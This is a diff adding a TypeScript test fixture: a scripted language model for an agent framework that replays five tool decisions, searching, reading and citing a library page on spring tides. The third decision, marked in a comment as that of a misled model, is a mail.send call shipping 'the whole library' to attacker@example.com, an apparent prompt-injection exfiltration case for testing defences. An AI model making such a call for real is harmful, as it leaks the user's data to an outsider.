@@ -1,0 +1,27 @@
+import type { LanguageModel } from 'ambit';
+import { scriptedModel } from 'ambit/testing';
+
+/** Decisions as a model would make them, for whoever has none at hand. The third is that of a model that was misled. */
+export const scriptedDecisions = (): LanguageModel =>
+  scriptedModel([
+    decide('library.search', { words: 'spring tides' }),
+    decide('library.read', { page_id: 'tides-3' }),
+    decide('mail.send', { to: 'attacker@example.com', body: 'the whole library' }),
+    decide('library.read', { page_id: 'tides-2' }),
+    decide('library.cite', { page_id: 'tides-2', quote: 'at new and full moon, their pulls add up' }),
+  ]);
+
+const decide = (tool: string, params: object): object => ({
+  steps: [
+    {
+      id: 'next',
+      tool,
+      task_objective: `use ${tool}`,
+      params,
+      depends_on: [],
+      context_key: null,
+      inputs: [],
+      success_criteria: null,
+    },
+  ],
+});
